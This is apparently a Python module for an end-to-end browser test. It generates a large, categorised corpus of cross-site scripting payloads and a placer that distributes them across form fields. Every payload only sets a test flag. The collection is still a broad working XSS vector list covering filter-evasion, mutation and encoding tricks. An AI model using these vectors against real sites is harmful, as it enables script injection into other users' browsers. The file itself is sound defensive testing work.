"""Cross-site scripting payloads for the browser test (tests/e2e/test_xss.py), and a placer that spreads them.

Every payload carries its own id (``xssabq``) literally and, if it ever ran, would set ``window.__xss`` to
that id: ``window.__xss=/xssabq/.source`` needs no quotes (so it survives attribute contexts) and no digit
(so the prose filter, which removes any word with a model-typed figure in it, leaves it whole). A few short
ones assign the bare global ``__xss`` to fit 40-character fields. The test page defines ``__xss`` as a
setter that reports to the test at once, so a payload that runs anywhere, in any frame, is caught.
"""

from __future__ import annotations

import base64
import itertools
import re
import string
from collections import defaultdict
from dataclasses import dataclass, field

JS = "@JS@"  # replaced by the statement that sets the flag
SHORT = "@SHORT@"  # the same without "window."
PID = "@ID@"  # replaced by the payload's id

_CLASSIC = [
    "<script>@JS@</script>",
    "<SCRIPT>@JS@</SCRIPT>",
    "<ScRiPt>@JS@</sCrIpT>",
    '<script type="text/javascript">@JS@</script>',
    "<script type=module>@JS@</script>",
    "<script>@JS@//",
    "<script>@JS@</script",
    "<script/xss>@JS@</script>",
    "<script\n>@JS@</script\n>",
    "<<script>@JS@//<</script>",
    "<scr<script>ipt>@JS@</scr</script>ipt>",
    "</script><script>@JS@</script>",
    "</title><script>@JS@</script>",
    "</textarea><script>@JS@</script>",
    "</style><script>@JS@</script>",
    "</noscript><script>@JS@</script>",
    "--><script>@JS@</script>",
    '<script src="data:text/javascript,@JS@"></script>',
    "<script src=//xss.invalid/@ID@.js></script>",
    "<script>/*</script><script>*/@JS@</script>",
    "<script>setTimeout(`@JS@`)</script>",
    "<script>[].constructor.constructor(`@JS@`)()</script>",
    "<script>{@JS@}</script>",
    "<script>\\u0077indow.__xss=/@ID@/.source</script>",
    "<svg><script>@JS@</script></svg>",
    '<svg><script href="data:,@JS@"/></svg>',
    "<math><script>@JS@</script></math>",
    "<script>document.write(`<img src=x onerror=@JS@>`)</script>",
    "<script>location=`javascript:@JS@`</script>",
]

# An element and the event attribute that would fire on it; each is tried unquoted, "double" and 'single'.
_HANDLERS = [
    ("<img src=x {}>", "onerror"),
    ("<svg {}>", "onload"),
    ("<svg/{}>", "onload"),
    ("<body {}>", "onload"),
    ("<body {}>", "onpageshow"),
    ("<iframe {}></iframe>", "onload"),
    ("<input autofocus {}>", "onfocus"),
    ("<select autofocus {}></select>", "onfocus"),
    ("<textarea autofocus {}></textarea>", "onfocus"),
    ("<details open {}>", "ontoggle"),
    ("<video><source {}></video>", "onerror"),
    ("<audio src=x {}>", "onerror"),
    ("<video src=x {}>", "onerror"),
    ("<marquee {}>x</marquee>", "onstart"),
    ("<object data=x {}></object>", "onerror"),
    ("<div {}>hover me</div>", "onmouseover"),
    ("<a {}>click me</a>", "onclick"),
    ("<style {}></style>", "onload"),
    ("<link rel=stylesheet href=x {}>", "onerror"),
    ("<image src=x {}>", "onerror"),
    ("<xss autofocus tabindex=1 {}>", "onfocus"),
    ("<div contenteditable autofocus {}></div>", "onfocus"),
    ("<svg><animate attributeName=x dur=1s {}>", "onbegin"),
    ("<svg><set attributeName=x to=y {}>", "onbegin"),
    ("<input type=image src=x {}>", "onerror"),
    ("<embed src=x {}>", "onerror"),
    ("<form><button autofocus {}>x</button></form>", "onfocus"),
    ("<track src=x {}>", "onerror"),
    ("<picture><img src=x {}></picture>", "onerror"),
    ("<svg><foreignObject><img src=x {}></foreignObject></svg>", "onerror"),
    ('<div class="step-card" {}>x</div>', "onanimationstart"),
    ("<x {}>x</x>", "onpointerover"),
    ("<frameset {}>", "onload"),
    ("<keygen autofocus {}>", "onfocus"),
    ("<body {}>", "onhashchange"),
    ("<summary {}>x</summary>", "onclick"),
]

_HANDLER_VARIANTS = [
    "<IMG SRC=x ONERROR=@JS@>",
    "<iMg sRc=x OnErRoR=@JS@>",
    "<img\tsrc=x\tonerror=@JS@>",
    "<img\nsrc=x\nonerror=@JS@>",
    "<img/src=x/onerror=@JS@>",
    "<img src=x onerror\n=@JS@>",
    '<img src="x" onerror  =  "@JS@">',
    "<img src=x:x onerror=@JS@>",
    '<img src="x` `<script>@JS@</script>"` `>',
    "<img src=x onerror=@JS@//",
]

_FRAMES = [
    '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=@JS@&gt;"></iframe>',
    "<iframe srcdoc='<svg onload=@JS@>'></iframe>",
    '<iframe src="javascript:@JS@"></iframe>',
    '<iframe src="data:text/html,<script>@JS@</script>"></iframe>',
    '<object data="data:text/html,<script>@JS@</script>"></object>',
    '<embed src="javascript:@JS@">',
    '<frame src="javascript:@JS@">',
    "<portal src=javascript:@JS@></portal>",
]

_URLS = [
    "javascript:@JS@",
    "JaVaScRiPt:@JS@",
    " javascript:@JS@",
    "java\tscript:@JS@",
    "javascript&colon;@JS@",
    "&#106;avascript:@JS@",
    "&#x6A;&#x61;vascript:@JS@",
    "jav&#x09;ascript:@JS@",
    "javascript://%0a@JS@",
    "data:text/html,<script>@JS@</script>",
    "data:image/svg+xml,<svg onload=@JS@>",
    "vbscript:@JS@",
    '<a href="javascript:@JS@">x</a>',
    "<a href=javascript:@JS@>x</a>",
    '<a href="  javascript:@JS@">x</a>',
    '<a href="java&#x0A;script:@JS@">x</a>',
    '<a href="&#106;avascript:@JS@">x</a>',
    '<a href="data:text/html,<script>@JS@</script>">x</a>',
    '<form action="javascript:@JS@"><input type=submit></form>',
    '<button form=x formaction="javascript:@JS@">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:@JS@">',
    '<base href="javascript:@JS@//">',
    '<svg><a xlink:href="javascript:@JS@"><text y=20>x</text></a></svg>',
    '<math><maction actiontype=statusline xlink:href="javascript:@JS@">x</maction></math>',
    'https://news.example/?q="><script>@JS@</script>',
    "https://news.example/#<img src=x onerror=@JS@>",
    'http://"onmouseover="@JS@',
    "//xss.invalid/@ID@?<svg onload=@JS@>",
]

_BREAKOUTS = [
    '" onmouseover="@JS@',
    "' onmouseover='@JS@",
    '" autofocus onfocus="@JS@',
    "' autofocus onfocus='@JS@' x='",
    '"><img src=x onerror=@JS@>',
    "'><img src=x onerror=@JS@>",
    '"/><svg onload=@JS@>',
    "`><img src=x onerror=@JS@>",
    '" onerror="@JS@" src="x',
    '"><script>@JS@</script><"',
    "' style='x:expression(@JS@)",
    '"><iframe src=javascript:@JS@>',
    '"\tonfocus=@JS@ autofocus x="',
    '" onfocus=@JS@ autofocus x="',
    "&quot; onmouseover=&quot;@JS@",
    '\\" onmouseover=\\"@JS@',
    '"></a><a href="javascript:@JS@">x</a>',
    '"></title><script>@JS@</script>',
    '"></textarea><script>@JS@</script>',
    '">]]><script>@JS@</script>',
]

_TEMPLATES = [
    "${@JS@}",
    "`${@JS@}`",
    "{{ @JS@ }}",
    "{{constructor.constructor(`@JS@`)()}}",
    "{{ '<script>@JS@</script>'|safe }}",
    "{% autoescape off %}<script>@JS@</script>{% endautoescape %}",
    "{% verbatim %}<img src=x onerror=@JS@>{% endverbatim %}",
    "{# <script>@JS@</script> #}",
    "{{ value|safe }}<svg onload=@JS@>",
    '{% include "memos/landing.html" %}<img src=x onerror=@JS@>',
    "{%raw%}<script>@JS@</script>{%endraw%}",
    "<%= @JS@ %>",
    "#{@JS@}",
    "{{7*7}}<img src=x onerror=@JS@>",
    "[[${@JS@}]]",
    "{% load desk %}{% prose '<img src=x onerror=@JS@>' %}",
]

_CSS = [
    "<style>@import 'javascript:@JS@';</style>",
    '<style>*{background:url("javascript:@JS@")}</style>',
    '<div style="background:url(javascript:@JS@)">x</div>',
    '<div style="width:expression(@JS@)">x</div>',
    "<div style=xss:expr/**/ession(@JS@)>x</div>",
    '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="@JS@"></div>',
    '<link rel=stylesheet href="javascript:@JS@">',
    '<style>body{-moz-binding:url("data:text/xml,<x>@JS@</x>")}</style>',
    '<p style="behavior:url(#default#time2)" onbegin="@JS@">x</p>',
    '<style>li{list-style-image:url("javascript:@JS@")}</style>',
    "</style><style onload=@JS@></style>",
]

_MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=@JS@>">',
    '<svg></p><style><a id="</style><img src=x onerror=@JS@>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=@JS@ src=x>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@JS@>",
    "<svg><style><img src=x onerror=@JS@></style></svg>",
    "<math><style><img src=x onerror=@JS@></style></math>",
    "<xmp><img src=x onerror=@JS@></xmp>",
    "<listing>&lt;img src=x onerror=@JS@&gt;</listing>",
    '<noembed><img title="</noembed><img src=x onerror=@JS@>">',
    "<template><img src=x onerror=@JS@></template>",
    "<table><td><img src=x onerror=@JS@>",
    "<!--><img src=x onerror=@JS@>-->",
    "<![CDATA[><img src=x onerror=@JS@>]]>",
    '<?xml version="1.0"?><img src=x onerror=@JS@>',
    "</p><img src=x onerror=@JS@>",
    "<select><template><style><img src=x onerror=@JS@>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=@JS@>]]></svg>',
    '<a title="a`<img src=x onerror=@JS@>`">x</a>',
    '<noframes><p title="</noframes><img src=x onerror=@JS@>">',
    '<iframe><p title="</iframe><img src=x onerror=@JS@>">',
    "<style><style/><img src=x onerror=@JS@>",
    '<textarea><img title="</textarea><img src=x onerror=@JS@>">',
]

_ENCODED = [
    "&lt;script&gt;@JS@&lt;/script&gt;",
    "&#60;script&#62;@JS@&#60;/script&#62;",
    "&#x3C;img src=x onerror=@JS@&#x3E;",
    "%3Cscript%3E@JS@%3C%2Fscript%3E",
    "%253Cscript%253E@JS@%253C%252Fscript%253E",
    "\\u003cscript\\u003e@JS@\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=@JS@\\x3e",
    "+ADw-script+AD4-@JS@+ADw-/script+AD4-",
    "&amp;lt;img src=x onerror=@JS@&amp;gt;",
    "<img src=x onerror=&#119;&#105;ndow.__xss=/@ID@/.source>",
    '<img src=x onerror="&#x77;indow.__xss=/@ID@/.source">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:@JS@">x</a>',
    "<img src=x onerror=eval(decodeURIComponent(`%77indow.__xss=/@ID@/.source`))>",
    "<img src=x onerror=eval(`\\x77indow.__xss=/@ID@/.source`)>",
    "%u003Cscript%u003E@JS@%u003C/script%u003E",
    "@B64@ /*@ID@*/",
]

_UNICODE = [
    "\uff1cscript\uff1e@JS@\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=@JS@\uff1e",
    "<scr\u200bipt>@JS@</scr\u200bipt>",
    "\u202e<img src=x onerror=@JS@>",
    "<img\u00a0src=x\u00a0onerror=@JS@>",
    "<\u017fcript>@JS@</\u017fcript>",
    "<scr\u0130pt>@JS@</scr\u0130pt>",
    "<\u0455cript>@JS@</\u0455cript>",
    "\U0001f608<svg onload=@JS@>",
    "\ufeff<script>@JS@</script>",
    "\u2028<img src=x onerror=@JS@>\u2029",
    "<img src=x onerror=@JS@>\u0301",
    "%C0%BCscript%C0%BE@JS@%C0%BC/script%C0%BE",
    "\u180e<svg onload=@JS@>",
    "<img src=x onerror\u3000=@JS@>",
    "<img src=x \u0001onerror=@JS@>",
    "\u2039script\u203a@JS@\u2039/script\u203a",
]

_MARKDOWN = [
    "[click me](javascript:@JS@)",
    "[x](JaVaScRiPt:@JS@)",
    '![x](x" onerror="@JS@)',
    "[x](data:text/html,<script>@JS@</script>)",
    "<javascript:@JS@>",
    "[a](javascript&#58;@JS@)",
    "**<img src=x onerror=@JS@>**",
    "`<script>@JS@</script>`",
    "[x]: javascript:@JS@",
    "[![img](x)](javascript:@JS@)",
]

_FACT_REFS = [
    "[[AAPL:revenue:FY2024<img src=x onerror=@JS@>]]",
    "[[<script>@JS@</script>]]",
    "[[AAPL:revenue:FY2024]]<svg onload=@JS@>",
    '[[AAPL:revenue:FY2024" onmouseover="@JS@]]',
    '[[news:x" onerror="@JS@:a:b]]',
    "[[javascript:@JS@]]",
    '[[AAPL:net_income:FY2024]]"><img src=x onerror=@JS@>',
    "[[AAPL:revenue:<img/src=x/onerror=@JS@>]]",
    "[[ [[AAPL:revenue:FY2024]] ]]<script>@JS@</script>",
]

_OVERLONG = [
    "A" * 2400 + "<script>@JS@</script>",
    "<" * 1200 + "img src=x onerror=@JS@>",
    "<b>" * 300 + "<img src=x onerror=@JS@>" + "</b>" * 300,
    '"' * 900 + " onmouseover=@JS@ x=",
    "<div>" * 200 + "<svg onload=@JS@>",
    "\\" * 900 + "<script>@JS@</script>",
    "x" * 700 + "&" * 300 + "lt;script&gt;@JS@",
]

# Up to 40 characters, for the shortest model field (a divergence's dimension).
_SHORT = [
    "<svg onload=@SHORT@>",
    "<img src onerror=@SHORT@>",
    '"><svg onload=@SHORT@>',
    "'><svg onload=@SHORT@>",
    "<script>@SHORT@</script>",
    "javascript:@SHORT@",
    "<svg/onload=@SHORT@>",
    "<body onload=@SHORT@>",
    "${@SHORT@}",
    "{{@SHORT@}}",
    "[x](javascript:@SHORT@)",
    "<x onclick=@SHORT@>",
    "<i onmouseover=@SHORT@>",
    "<b/onfocus=@SHORT@>",
    "<p onclick=@SHORT@>",
]


@dataclass(frozen=True)
class Payload:
    pid: str
    category: str
    text: str


def _fill(template: str, pid: str) -> str:
    js = f"window.__xss=/{pid}/.source"
    script = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    return (
        template.replace("@B64@", f"data:text/html;base64,{script}")
        .replace(JS, js)
        .replace(SHORT, f"__xss=/{pid}/.source")
        .replace(PID, pid)
    )


def _templates() -> list[tuple[str, str]]:
    handlers = [
        (template.format(f"{event}={quote}{JS}{quote}"))
        for (template, event), quote in itertools.product(_HANDLERS, ("", '"', "'"))
    ]
    groups = {
        "script": _CLASSIC,
        "handler": handlers + _HANDLER_VARIANTS,
        "frame": _FRAMES,
        "url": _URLS,
        "breakout": _BREAKOUTS,
        "template": _TEMPLATES,
        "css": _CSS,
        "mutation": _MUTATION,
        "encoded": _ENCODED,
        "unicode": _UNICODE,
        "markdown": _MARKDOWN,
        "fact-ref": _FACT_REFS,
        "overlong": _OVERLONG,
        "short": _SHORT,
    }
    return [(category, template) for category, templates in groups.items() for template in templates]


ID = re.compile(r"\bxss[a-z]{3}\b")  # finds the ids in a page's text


def _pid(number: int) -> str:
    letters = string.ascii_lowercase
    return "xss" + "".join(letters[number // 26**power % 26] for power in (2, 1, 0))


def corpus() -> list[Payload]:
    return [
        Payload(_pid(number), category, _fill(template, _pid(number)))
        for number, (category, template) in enumerate(_templates())
    ]


@dataclass
class Placer:
    """Hands out payloads for the fields of the desk, each field going round the corpus from its own start,
    so a field with room for the whole corpus gets every payload and every field gets a different mix.
    Records which payload went into which field."""

    payloads: list[Payload]
    cursors: dict[str, int] = field(default_factory=dict)
    placed: dict[str, set[str]] = field(default_factory=lambda: defaultdict(set))

    def take(self, name: str, limit: int, *, separator: str = " ") -> tuple[str, set[str]]:
        """As many whole payloads as fit in ``limit`` characters (at least one that fits alone), their ids."""
        count = len(self.payloads)
        start = self.cursors.setdefault(name, (len(self.cursors) * 61) % count)
        parts: list[str] = []
        ids: set[str] = set()
        used = 0
        position = start
        for position in range(start, start + count):
            payload = self.payloads[position % count]
            if len(payload.text) > limit:
                continue  # never fits this field
            needed = len(payload.text) + (len(separator) if parts else 0)
            if used + needed > limit:
                break
            parts.append(payload.text)
            ids.add(payload.pid)
            used += needed
        else:
            position = start + count
        self.cursors[name] = position % count
        self.placed[name] |= ids
        return separator.join(parts), ids

    def fields_of(self, pid: str) -> list[str]:
        return sorted(name for name, ids in self.placed.items() if pid in ids)
